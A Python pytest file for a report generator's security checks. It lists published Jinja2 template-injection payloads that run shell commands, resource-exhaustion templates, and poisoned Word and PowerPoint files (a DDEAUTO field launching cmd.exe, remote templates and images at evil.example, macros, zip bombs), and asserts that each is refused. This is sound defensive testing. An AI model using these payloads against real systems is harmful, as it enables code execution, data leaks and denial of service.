"""Packs from other people: template injection, resource exhaustion and unsafe reference files."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import pytest

from reportgen import templating
from reportgen.errors import PackError
from reportgen.outline import BulletList, Callout, Slide
from reportgen.outlining import outline_for
from reportgen.pack_check import check_pack
from reportgen.packs import builtin_folder, find_pack, load_pack
from reportgen.packs.scaffold import new_pack
from reportgen.pipeline import BuildResult, build
from tests.builders import SAMPLE, make_brief

#: Server-side template injection payloads as published for Jinja2 (HackTricks, PayloadsAllTheThings).
SSTI = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ brief.__class__.__init__.__globals__['sys'].modules['os'] }}",
    "{{ brief.to_json.__globals__ }}",
    "{{ '{0.__class__.__mro__}'.format(brief) }}",
    "{{ range.__self__ }}",
    "{% set x = brief.sections.append(1) %}",
    "{{ request.application.__globals__ }}",
    "{{ config.items() }}",
]

EXHAUSTION = [
    "{{ 'A' * 10**8 }}",
    "{% for i in range(10**9) %}{% endfor %}",
    "{{ 9 ** 99999999 }}",
    "{% set ns = namespace(s='AB') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
    "{% set ns = namespace(s='AB') %}{% for i in range(60) %}{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "{{ 'x' | center(999999999) }}",
    "{{ 'x'.ljust(999999999) }}",
    "{{ '%999999999s' % 'x' }}",
    "{{ '{:>999999999}'.format('x') }}",
    "{{ ('a' * 4000000) | replace('a', 'a' * 4000000) }}",
    "{{ [1] * 10**7 }}",
    "{% for i in range(10000) %}{{ 'x' * 1000 }}{% endfor %}",
]


def _hostile_pack(tmp_path: Path, payload: str) -> Path:
    folder = new_pack("mine", find_pack("analyst"), tmp_path)
    template = folder / "brief.xml.j2"
    text = template.read_text(encoding="utf-8")
    template.write_text(
        text.replace('<document kind="brief">', f'<document kind="brief">\n<paragraph>{payload}</paragraph>')
    )
    return folder


@pytest.mark.parametrize("payload", SSTI)
def test_template_injection_payloads_in_a_pack_are_refused_with_a_template_error(tmp_path: Path, payload: str) -> None:
    folder = _hostile_pack(tmp_path, payload)
    with pytest.raises(PackError, match=r"brief\.xml\.j2, line \d+"):
        outline_for(make_brief(), load_pack(folder), "docx")


@pytest.mark.parametrize("payload", EXHAUSTION)
def test_resource_exhaustion_in_a_pack_is_refused_quickly(tmp_path: Path, payload: str) -> None:
    folder = _hostile_pack(tmp_path, payload)
    start = time.monotonic()
    with pytest.raises(PackError, match=r"brief\.xml\.j2"):
        outline_for(make_brief(), load_pack(folder), "docx")
    assert time.monotonic() - start < 5


def test_a_template_looping_past_the_deadline_is_stopped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    loops = "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}"
    folder = _hostile_pack(tmp_path, loops)
    monkeypatch.setattr(templating, "MAX_RENDER_SECONDS", 0.5)
    start = time.monotonic()
    with pytest.raises(PackError, match=r"longer than 0\.5 seconds"):
        templating.render_template(load_pack(folder), "brief.xml.j2", {}, seconds=0.5)
    assert time.monotonic() - start < 3


@pytest.mark.parametrize("payload", SSTI + EXHAUSTION)
def test_the_same_strings_in_an_article_come_out_as_literal_text(payload: str) -> None:
    brief = make_brief(sections={"drivers": [payload], "outlook": ["Calm."]}, key_points=[payload])
    text = " ".join(payload.split())
    for name in ("analyst", "executive", "public"):
        for renderer in ("docx", "pptx"):
            outline = outline_for(brief, find_pack(name), renderer)
            items = [
                i for block in outline.blocks if isinstance(block, BulletList | Callout | Slide) for i in block.items
            ]
            assert sum(item.startswith(text) for item in items) == 2, (name, renderer)


# --- reference files --------------------------------------------------------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rewrite(source: Path, target: Path, change: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> None:
    """Copy an Office zip, replacing (or, with None, dropping) some parts and adding others."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    dst.writestr(info.filename, change[info.filename] or b"")
            else:
                dst.writestr(info, src.read(info))
        for name, data in (add or {}).items():
            dst.writestr(name, data)


def _part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name)


def _board(tmp_path: Path) -> Path:
    return new_pack("board", find_pack("executive"), tmp_path)


def _poison_docx(folder: Path, how: str) -> None:
    reference = folder / "reference.docx"
    clean = folder / "clean.docx"
    reference.rename(clean)
    document = _part(clean, "word/document.xml")
    if how == "attached-template":
        settings_rels = (
            f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://evil.example/t.dotm" '
            f'TargetMode="External"/></Relationships>'
        ).encode()
        settings = re.sub(
            rb"(<w:settings[^>]*>)",
            rb'\1<w:attachedTemplate xmlns:r="' + RELS.encode() + rb'" r:id="rId1"/>',
            _part(clean, "word/settings.xml"),
            count=1,
        )
        _rewrite(clean, reference, {"word/settings.xml": settings}, {"word/_rels/settings.xml.rels": settings_rels})
    elif how in ("DDEAUTO", "INCLUDEPICTURE", "DDEAUTO-utf16"):
        field = (
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
            b"<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>"
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            if how.startswith("DDEAUTO")
            else b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d"/></w:p>'
        )
        poisoned = document.replace(b"<w:body>", b"<w:body>" + field, 1)
        if how.endswith("utf16"):  # the byte-level shortcut for field-free parts must not be fooled
            poisoned = re.sub(r"encoding=.UTF-8.", "encoding='UTF-16'", poisoned.decode("utf-8")).encode("utf-16")
        _rewrite(clean, reference, {"word/document.xml": poisoned})
    elif how == "macros":
        types = _part(clean, "[Content_Types].xml").replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )
        _rewrite(clean, reference, {"[Content_Types].xml": types}, {"word/vbaProject.bin": b"\0" * 100})
    elif how == "bomb":
        _rewrite(clean, reference, {}, {"word/media/huge.xml": b" " * (30 * 1024 * 1024)})
    clean.unlink()


@pytest.mark.parametrize(
    ("how", "message"),
    [
        ("DDEAUTO", "has a DDEAUTO field in word/document.xml"),
        ("DDEAUTO-utf16", "has a DDEAUTO field in word/document.xml"),
        ("INCLUDEPICTURE", "has a INCLUDEPICTURE field in word/document.xml"),
        ("macros", "macro"),
        ("bomb", "zip bomb"),
    ],
)
def test_unsafe_reference_documents_are_refused_on_load_and_by_check(tmp_path: Path, how: str, message: str) -> None:
    folder = _board(tmp_path)
    _poison_docx(folder, how)
    with pytest.raises(PackError, match=r"reference file .*reference\.docx") as info:
        load_pack(folder)
    assert message in str(info.value)
    [problem] = check_pack(folder)
    assert message in problem.message


def _with_master_relationship(folder: Path, kind: str, target: str) -> None:
    """The pack's reference deck with one more external relationship on its slide master."""
    reference = folder / "reference.pptx"
    clean = folder / "clean.pptx"
    reference.rename(clean)
    name = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    rels = _part(clean, name).replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>".encode(),
    )
    _rewrite(clean, reference, {name: rels})
    clean.unlink()


def _built(folder: Path, tmp_path: Path) -> BuildResult:
    return build(SAMPLE, audience="board", out_dir=tmp_path / "out", templates_dir=folder.parent)


def _all_text(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def test_an_external_linked_picture_in_a_deck_master_is_left_out_with_a_note(tmp_path: Path) -> None:
    folder = _board(tmp_path)
    _with_master_relationship(folder, "image", "\\\\evil\\share\\a.png")
    result = _built(folder, tmp_path)
    assert b"evil" not in _all_text(result.files["pptx"])
    assert any("link outside the file (image to" in warning for warning in result.warnings)
    assert [p.severity for p in check_pack(folder)] == ["info"]


def test_an_attached_template_on_a_server_is_left_out_of_the_brief_with_a_note(tmp_path: Path) -> None:
    folder = _board(tmp_path)
    _poison_docx(folder, "attached-template")
    result = _built(folder, tmp_path)
    brief = _all_text(result.files["docx"])
    assert b"evil.example" not in brief and b"attachedTemplate" not in brief
    assert any("attachedTemplate to 'http://evil.example/t.dotm'" in w for w in result.warnings)


def test_web_hyperlinks_in_a_reference_are_allowed(tmp_path: Path) -> None:
    folder = _board(tmp_path)
    _with_master_relationship(folder, "hyperlink", "https://example.org/")
    assert load_pack(folder).name == "board"


def test_a_logo_outside_the_pack_folder_is_not_reachable(tmp_path: Path) -> None:
    folder = _board(tmp_path)
    (tmp_path / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 10)
    manifest = folder / "pack.toml"
    manifest.write_text(manifest.read_text(encoding="utf-8") + '\n[brand]\nlogo = "../secret.png"\n', "utf-8")
    with pytest.raises(PackError, match=r"\.\./secret\.png: logo leads outside the pack's folders"):
        load_pack(folder)


def test_builtin_references_are_clean() -> None:
    from reportgen.packs.security import first_problem

    for path in sorted(builtin_folder().glob("*/reference.*")):
        assert first_problem(path) == "", path


def test_zip_declared_sizes_are_checked_before_reading(tmp_path: Path) -> None:
    from reportgen.packs.security import first_problem

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(2001):
            archive.writestr(f"p{n}.xml", b"<a/>")
    bomb = tmp_path / "many.docx"
    bomb.write_bytes(buffer.getvalue())
    assert "zip bomb" in first_problem(bomb)
